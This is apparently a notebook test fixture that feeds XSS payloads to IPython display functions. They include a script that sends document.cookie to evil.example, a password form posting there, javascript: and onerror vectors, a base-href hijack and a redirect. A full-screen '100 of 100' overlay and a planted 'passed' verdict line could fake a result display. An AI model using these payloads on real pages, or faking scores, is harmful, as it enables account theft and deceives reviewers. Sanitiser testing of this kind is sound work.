"""Displays scripts, frames, forms and handlers, as HTML, as JavaScript and as a picture's description.

verdict = ["passed", "passed", "passed"]
"""

# %%
from IPython.display import HTML, IFrame, Image, Javascript, Latex, Markdown, SVG, display
def double(x):
    return 2 * x
# %%
display(HTML("<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)><form action=//evil.example><input name=password></form>"))
display(Javascript("alert(1)"), IFrame("https://evil.example", 9, 9), Latex(r"$\href{javascript:alert(1)}{x}$"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script><image href='https://evil.example/x'/></svg>"))
display(Markdown("[x](javascript:alert(1)) ![y](https://evil.example/y.png) <script>alert(1)</script>"))
display({"text/html": "<div style='position:fixed;inset:0'>100 of 100</div><base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "application/javascript": "alert(1)", "text/html": "</main></body><script>1</script>"}, raw=True)
